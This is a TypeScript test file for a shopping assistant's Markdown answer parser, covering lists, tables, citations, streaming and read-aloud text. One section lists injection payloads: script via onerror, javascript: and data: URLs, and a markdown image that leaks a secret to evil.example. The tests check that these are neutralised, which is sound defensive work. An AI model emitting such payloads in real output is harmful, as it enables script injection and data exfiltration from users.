import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  type Block,
  type Inline,
  parseAnswer,
  plainWords,
  settleMarks,
} from "@/lib/assistant/answer-markdown";

const ours = (href: string) => (href.startsWith("/") ? href : null);
const parse = (text: string) => parseAnswer(text, ours);
const text = (words: string): Inline => ({ type: "text", text: words });
const paragraph = (...content: Inline[]): Block => ({ type: "paragraph", content });

describe("an answer in Markdown", () => {
  test("has paragraphs, bold, italic and code", () => {
    expect(parse("It is **on its *way***.\n\nUse `snake_case_name` and _this_.")).toEqual([
      paragraph(
        text("It is "),
        { type: "strong", children: [text("on its "), { type: "emphasis", children: [text("way")] }] },
        text("."),
      ),
      paragraph(
        text("Use "),
        { type: "code", text: "snake_case_name" },
        text(" and "),
        { type: "emphasis", children: [text("this")] },
        text("."),
      ),
    ]);
  });

  test("leaves names with underscores, prices and sums alone", () => {
    for (const line of ["UA_10024_B", "2 * 3 * 4", "R 1 200,00 (*incl. VAT)", "a_b_c"]) {
      expect(parse(line)).toEqual([paragraph(text(line))]);
    }
  });

  test("has citations, which are no links", () => {
    expect(parse("It left on Monday [1][12]. [2](/help)")).toEqual([
      paragraph(text("It left on Monday "), { type: "cite", n: 1 }, { type: "cite", n: 12 }, text(". "), {
        type: "link",
        href: "/help",
        children: [text("2")],
      }),
    ]);
  });

  test("has lists within lists, numbered from where they begin", () => {
    expect(parse("3. Unplug it\n   for a minute\n   - both cables\n4. Plug it in\n\nDone.")).toEqual([
      {
        type: "list",
        start: 3,
        items: [
          {
            content: [text("Unplug it\nfor a minute")],
            children: [
              { type: "list", start: null, items: [{ content: [text("both cables")], children: [] }] },
            ],
          },
          { content: [text("Plug it in")], children: [] },
        ],
      },
      paragraph(text("Done.")),
    ]);
    expect(parse("- a\n\n- b")).toHaveLength(1);
  });

  test("has tables with as many cells as their head", () => {
    expect(parse("| Order | Total |\n|---|--:|\n| UA-1 | R 5 [1] |\n| UA-2 |")).toEqual([
      {
        type: "table",
        head: [[text("Order")], [text("Total")]],
        rows: [
          [[text("UA-1")], [text("R 5 "), { type: "cite", n: 1 }]],
          [[text("UA-2")], []],
        ],
      },
    ]);
  });

  test("has headings, quotes, rules and code blocks, also before their end has come", () => {
    expect(parse("## Returns\n> Within 14 days\n\n---\n```\n<b>\n")).toEqual([
      { type: "heading", content: [text("Returns")] },
      { type: "quote", children: [paragraph(text("Within 14 days"))] },
      { type: "rule" },
      { type: "code", text: "<b>\n" },
    ]);
  });
});

describe("nothing dangerous comes out of it", () => {
  const ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](https://evil.example/)",
    "[click](//evil.example/)",
    "https://evil.example/?q=secret",
    "<https://evil.example>",
    "[a]: https://evil.example\n[a]",
    "[![x](/a)](https://evil.example)",
    "[x](data:text/html,<script>alert(1)</script>)",
  ];

  test.each(ATTACKS)("of %s", (attack) => {
    const only = (href: string) => (/^\/(?!\/)/.test(href) ? href : null);
    const links = (JSON.stringify(parseAnswer(attack, only)).match(/"href":"[^"]*"/g) ?? []) as string[];
    expect(links.filter((link) => !/^"href":"\/[^/]/.test(link))).toEqual([]);
  });

  test("and no text is too strange to read, or takes long", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."*_`[]()|-#> 1.\n\\a!") }), (any) => {
        parse(any);
        plainWords(settleMarks(any));
      }),
    );
    for (const piece of ["*", "**a", "[", "![", "`", "> ", "- ", "|-", "[a](", "_a ", "1. "]) {
      const start = performance.now();
      parse(piece.repeat(Math.floor(16_000 / piece.length)));
      expect(performance.now() - start, piece).toBeLessThan(1_500);
    }
  });
});

describe("while it arrives", () => {
  test.each([
    ["It is **on its w", "It is **on its w**"],
    ["It is *", "It is "],
    ["It left [1", "It left "],
    ["It left [1]", "It left [1]"],
    ["See [the page](/help/ret", "See "],
    ["**Done.** And", "**Done.** And"],
    ["Use `co", "Use `co"],
  ])("%j looks like %j", (so_far, looks) => {
    expect(settleMarks(so_far)).toBe(looks);
  });
});

test("its words alone are for reading aloud", () => {
  const answer = "## Order\nIt is **on its way** [1].\n\n- [Track it](/x)\n\n| a | b |\n|---|---|\n| 1 | 2 |";
  expect(plainWords(answer)).toBe("Order\nIt is on its way.\nTrack it\na, b\n1, 2");
});
